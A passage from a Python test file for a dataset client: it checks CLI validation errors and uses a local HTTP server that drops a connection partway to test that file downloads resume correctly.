    assert invalid.returncode == 1 and "validation_error" in invalid.stderr and "minDepth" in invalid.stderr
    two = cli(service, "dataset", "create", "--concept", DATASET_GENUS, "--format", "png", "--format", "jpeg",
              "--out", "never-made")
    assert two.returncode == 1 and "one image format" in two.stderr
    assert not (ROOT / "never-made").exists()


class FileServer(Scripted):
    """Serves `data` at /file with Range; the first answer is cut off after `cut` bytes. Range headers are kept."""

    def __init__(self, data, cut):
        super().__init__()
        self.RequestHandlerClass = FileHandler
        self.data, self.cut, self.ranges = data, cut, []


class FileHandler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        server = self.server
        asked = self.headers.get("Range")
        server.ranges.append(asked)
        start = int(asked.removeprefix("bytes=").rstrip("-")) if asked else 0
        self.send_response(206 if asked else 200)
        if asked:
            self.send_header("Content-Range", f"bytes {start}-{len(server.data) - 1}/{len(server.data)}")
        self.send_header("Content-Length", str(len(server.data) - start))
        self.end_headers()
        if len(server.ranges) == 1:  # the first answer: a connection dropped mid-way
            self.wfile.write(server.data[:server.cut])
            self.close_connection = True
            return
        self.wfile.write(server.data[start:])


def test_a_download_dropped_mid_way_is_resumed_where_it_stopped(tmp_path):
    data = os.urandom(300_000)
    with FileServer(data, cut=100_000) as server:
        files = [{"name": "train-000000.tar", "format": "webdataset", "url": f"{server.url}/file", "size": len(data),
                  "sha256": hashlib.sha256(data).hexdigest(), "split": "train", "samples": 3}]
        job = DatasetJob(Cropper(server.url, backoff=0.01), {"id": "0" * 32, "url": f"{server.url}/datasets/x",
                                                           "status": "done", "files": files})
        job.download(tmp_path, progress_bar=False)
    assert (tmp_path / "train-000000.tar").read_bytes() == data  # kept as it is: a tar is not unpacked
    first, then = server.ranges
    assert first is None and 0 < int(then.removeprefix("bytes=").removesuffix("-")) <= 100_000  # not from 0
    assert job.files[0].samples == 3
    assert sorted(path.name for path in tmp_path.iterdir()) == ["train-000000.tar"]
